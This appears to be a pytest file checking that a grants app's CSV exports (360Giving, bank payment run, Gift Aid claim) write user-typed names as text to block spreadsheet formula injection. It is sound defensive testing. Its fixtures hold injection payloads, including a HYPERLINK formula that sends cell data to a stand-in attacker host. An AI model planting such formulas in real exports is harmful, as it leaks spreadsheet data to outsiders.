"""Every spreadsheet that funds hands out (the 360Giving CSV, the payment run file for the bank
and the Gift Aid claim schedule) writes names people typed as text, never as a formula, and
keeps amounts as numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io

from funds import services
from funds.models import DeclarationScope, DonationMethod
from giving.extensions import db
from giving.models import Role, User
from giving.timeutil import utcnow
from tests.conftest import log_in
from tests.factories import FundFactory, GroupFactory, RoleGrantFactory, make_grant
from tests.funds.donation_support import offline_gift

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
SHORT_LINK = '=HYPERLINK("http://e.x/?"&A1)'  # fits a first name (35 letters, as HMRC's)


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _grant(fund, manager, group_name: str, title: str, description: str | None = None):
    group = GroupFactory(place=fund.place, name=group_name)
    grant = make_grant(
        fund, manager=manager, group=group, accepted=True, title=title, total_pence=1_200_000
    )
    if description is not None:
        grant.description = description
    return grant


def test_the_open_data_csv_writes_typed_names_as_text(client, session):
    fund = FundFactory(money=10_000_000, holder_name="@SUM(A1)")
    manager = RoleGrantFactory(place=fund.place, role=Role.FUND_MANAGER).user
    _grant(fund, manager, LINK, "-2+3", "@SUM(B2) for the club")
    _grant(fund, manager, "+1 Club", "Ordinary title", "Ordinary words")
    session.commit()
    response = client.get("/open-data/360giving.csv")
    assert response.status_code == 200
    rows = _rows(response.get_data(as_text=True))
    assert [r["Recipient Org:Name"] for r in rows] == ["'" + LINK, "'+1 Club"]
    assert [r["Title"] for r in rows] == ["'-2+3", "Ordinary title"]
    assert [r["Description"] for r in rows] == ["'@SUM(B2) for the club", "Ordinary words"]
    assert {r["Funding Org:Name"] for r in rows} == {"'@SUM(A1)"}
    assert {r["Amount Awarded"] for r in rows} == {"12000"}
    assert {r["Planned Dates:Duration (months)"] for r in rows} == {"12"}
    # The JSON is data, not a spreadsheet: there the names stay exactly as typed.
    grants = client.get("/open-data/360giving.json").get_json()["grants"]
    assert grants[0]["recipientOrganization"][0]["name"] == LINK
    assert grants[0]["title"] == "-2+3"
    assert grants[0]["amountAwarded"] == 12000


def test_the_payment_run_file_for_the_bank_writes_group_names_as_text(client, session):
    fund = FundFactory(money=10_000_000)
    manager = RoleGrantFactory(place=fund.place, role=Role.FUND_MANAGER).user
    names = [LINK, "-2+3", "@SUM(A1)", "+1"]
    for name in names:
        grant = _grant(fund, manager, name, "x")
        services.act_on_instalment(db.session, manager, grant.instalments[0], "approve")
    session.commit()
    ids = {"fund": fund.id, "manager": manager.id}
    log_in(client, session.get(User, ids["manager"]))
    response = client.get(f"/funds/{ids['fund']}/payment-run.csv?on=1&on=9&on=2026")
    assert response.status_code == 200
    rows = _rows(response.get_data(as_text=True))
    assert sorted(r["Payee"] for r in rows) == sorted("'" + name for name in names)
    assert {r["Amount (GBP)"] for r in rows} == {"3000.00"}


def test_the_gift_aid_claim_writes_donor_names_and_addresses_as_text(app, session, tmp_path):
    today = utcnow().date()
    with app.test_request_context():
        fund = FundFactory()
        manager = RoleGrantFactory(place=fund.place, role=Role.FUND_MANAGER).user
        details = services.GiftAidDetails(
            first_name=SHORT_LINK,
            last_name="-2+3",
            house="+1",
            postcode="E17 4QH",
            scope=DeclarationScope.THIS_GIFT,
            title="=A1",  # HMRC takes a title of up to 4 letters
            taxpayer=True,
        )
        offline_gift(
            fund,
            manager,
            # Over £20: a gift of its own on the schedule, with the donor's name (smaller gifts
            # may be added up into one line without names).
            2_500,
            DonationMethod.CHEQUE,
            donor_name="Gita Aid",
            donor_email="gita@example.org",
            gift_aid=details,
        )
        db.session.commit()
        fund_id = fund.id
    out = tmp_path / "claim.csv"
    days = ["--from", (today - dt.timedelta(days=1)).isoformat(), "--to", today.isoformat()]
    result = app.test_cli_runner().invoke(
        args=["giftaid", "claim", *days, "--fund", str(fund_id), "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert rows[1][:5] == ["'=A1", "'" + SHORT_LINK, "'-2+3", "'+1", "E17 4QH"]
    assert rows[1][-1] == "25.00"
